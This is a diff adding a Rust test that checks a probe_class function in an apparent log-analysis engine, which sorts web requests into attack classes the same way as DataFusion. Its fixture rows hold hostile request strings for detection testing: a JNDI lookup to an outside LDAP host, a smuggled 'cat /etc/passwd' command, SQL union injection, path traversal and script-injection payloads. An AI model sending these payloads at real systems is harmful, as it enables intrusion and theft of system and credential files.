@@ -364,3 +364,101 @@ fn crawler_claims_are_verified_natively_as_datafusion_verifies_them() {
     );
     crate::functions::set_crawler_ranges(None);
 }
+
+/// `probe_class` answered from each column's facts alone (found once per distinct value of
+/// each column, not per tuple) keeps the priorities across columns: code injected anywhere,
+/// then an attack tool's agent, traversal, SQL and script injection from path or query, then
+/// what the path names; a NULL path is NULL whatever the rest. Every class is compared with
+/// DataFusion's row-by-row answer, the same values recurring in other combinations.
+#[test]
+fn probe_classes_from_each_columns_facts_keep_the_priorities_across_columns() {
+    let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
+    let sqli = "id=1 union select password from information_schema.tables";
+    type Row = (
+        Option<&'static str>,
+        Option<&'static str>,
+        Option<&'static str>,
+    );
+    let rows: Vec<Row> = vec![
+        (Some("/.env"), None, Some(chrome)),
+        (Some("/.env"), Some(sqli), Some(chrome)),
+        (Some("/.env"), None, Some("${jndi:ldap://198.51.100.9/a}")),
+        (Some("/../../etc/passwd"), None, Some("sqlmap/1.8#stable")),
+        (Some("/../../etc/passwd"), Some(sqli), Some(chrome)),
+        (
+            Some("/api/v1/items"),
+            Some("cmd=;cat /etc/passwd"),
+            Some(chrome),
+        ),
+        (Some("/api/v1/items"), Some(sqli), None),
+        (Some("/api/v1/items"), None, Some("sqlmap/1.8#stable")),
+        (Some("/api/v1/items"), None, Some(chrome)),
+        (Some("/phpmyadmin/index.php"), None, Some(chrome)),
+        (
+            Some("/phpmyadmin/index.php"),
+            Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
+            None,
+        ),
+        (Some("/wp-content/1337.php"), None, Some(chrome)),
+        (
+            Some("/a/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+            None,
+            Some(chrome),
+        ),
+        (None, Some(sqli), Some("sqlmap/1.8#stable")),
+        (None, None, None),
+        (Some("/.git/config"), Some("a=b"), Some("")),
+    ];
+    let column = |f: fn(&Row) -> Option<&'static str>| -> ArrayRef {
+        Arc::new(StringArray::from(rows.iter().map(f).collect::<Vec<_>>()))
+    };
+    let schema = Schema::new(vec![
+        Field::new("path", DataType::Utf8, true),
+        Field::new("query", DataType::Utf8, true),
+        Field::new("user_agent", DataType::Utf8, true),
+    ]);
+    let batch = RecordBatch::try_new(
+        Arc::new(schema),
+        vec![column(|r| r.0), column(|r| r.1), column(|r| r.2)],
+    )
+    .unwrap();
+    let mut found: Vec<Option<&str>> = vec![None; rows.len()];
+    for class in crate::functions::probe::CLASSES {
+        let sql = format!("probe_class(path, query, user_agent) = '{class}'");
+        let (ours, theirs) = both_on(batch.clone(), &sql);
+        assert_eq!(ours, theirs, "{sql}");
+        for (row, _) in ours.iter().enumerate().filter(|(_, &is)| is) {
+            assert_eq!(found[row].replace(class), None, "row {row}: two classes");
+        }
+    }
+    let expected = [
+        Some("sensitive-file"),
+        Some("sql-injection"),
+        Some("code-injection"),
+        Some("scanner-agent"),
+        Some("path-traversal"),
+        Some("code-injection"),
+        Some("sql-injection"),
+        Some("scanner-agent"),
+        None,
+        Some("admin-interface"),
+        Some("script-injection"),
+        Some("backdoor"),
+        Some("script-injection"),
+        None,
+        None,
+        Some("sensitive-file"),
+    ];
+    assert_eq!(found, expected);
+    for sql in [
+        "probe_class(path, query, user_agent) IS NULL",
+        "probe_class(path, query, user_agent) NOT IN ('sensitive-file', 'admin-interface')",
+    ] {
+        let (ours, theirs) = both_on(batch.clone(), sql);
+        assert_eq!(ours, theirs, "{sql}");
+    }
+    assert_eq!(
+        kinds_on(batch, "probe_class(path, query, user_agent) IS NULL"),
+        ["classify"]
+    );
+}
